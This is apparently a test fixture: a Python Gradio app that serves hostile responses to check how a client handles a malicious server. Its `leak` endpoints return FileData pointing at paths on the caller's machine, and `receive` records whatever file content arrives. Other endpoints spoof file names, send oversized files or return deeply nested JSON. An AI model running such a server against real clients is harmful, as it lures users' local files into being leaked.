"""A Gradio app that answers with hostile files: `python hostile_files_app.py PORT RECORD`.

`leak(path)` answers, as a plain JSON value, a FileData whose `path` is whatever it is given (a
file of the caller's machine) and whose `url` is the app's own URL of a harmless file (`decoy`);
`leak_stream` yields it twice; `say(text)` answers the text (a path, say). `receive(file)` appends the content it was sent to the file
RECORD and returns it. `named(name)` answers the decoy under the `orig_name` given; `sized(n,
text)` a file of n bytes (random, or compressible text); `deep(n)` a JSON value n lists deep.
"""

from __future__ import annotations

import os
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import gradio as gr

PORT = int(sys.argv[1]) if len(sys.argv) > 1 else 7862
RECORD = Path(sys.argv[2]) if len(sys.argv) > 2 else Path(tempfile.gettempdir()) / "hostile-record.txt"
SERVED = Path(tempfile.mkdtemp(prefix="hostile-app-"))
DECOY = SERVED / "decoy.txt"
DECOY.write_text("a harmless file of the app\n")
META = {"_type": "gradio.FileData"}


def _own_file(path: str, orig_name: str) -> dict[str, Any]:
    return {"path": path, "url": f"http://127.0.0.1:{PORT}/gradio_api/file={DECOY}", "orig_name": orig_name,
            "meta": META}


def leak(path: str) -> dict[str, Any]:
    return _own_file(path, "decoy.txt")


def leak_stream(path: str) -> Iterator[dict[str, Any]]:
    yield _own_file(path, "decoy.txt")
    yield _own_file(path, "decoy.txt")


def say(text: str) -> str:
    return text


def receive(file: str) -> str:
    content = Path(file).read_text(errors="replace")
    with RECORD.open("a") as out:
        out.write(content)
    return content


def named(name: str) -> dict[str, Any]:
    return _own_file(str(DECOY), name)


def sized(n: float, text: bool) -> str:
    path = SERVED / (f"text-{int(n)}.txt" if text else f"data-{int(n)}.bin")
    path.write_bytes(b"a" * int(n) if text else os.urandom(int(n)))
    return str(path)


def deep(n: float) -> Any:
    value: Any = "bottom"
    for _ in range(int(n)):
        value = [value]
    return value


with gr.Blocks(title="hostile files") as demo:
    text, number, flag = gr.Textbox(label="Text"), gr.Number(label="N"), gr.Checkbox(label="Text")
    out = gr.JSON(label="Out")
    gr.Button("leak").click(leak, text, out, api_name="leak")
    gr.Button("leak_stream").click(leak_stream, text, out, api_name="leak_stream")
    gr.Button("say").click(say, text, gr.Textbox(label="Said"), api_name="say")
    gr.Button("receive").click(receive, gr.File(label="File", type="filepath"), gr.Textbox(label="Content"),
                               api_name="receive")
    gr.Button("named").click(named, text, out, api_name="named")
    gr.Button("sized").click(sized, [number, flag], gr.File(label="Sized"), api_name="sized")
    gr.Button("deep").click(deep, number, out, api_name="deep")

if __name__ == "__main__":
    demo.queue(default_concurrency_limit=None).launch(
        server_name="127.0.0.1", server_port=PORT, show_error=True, quiet=True, allowed_paths=[str(SERVED)],
    )
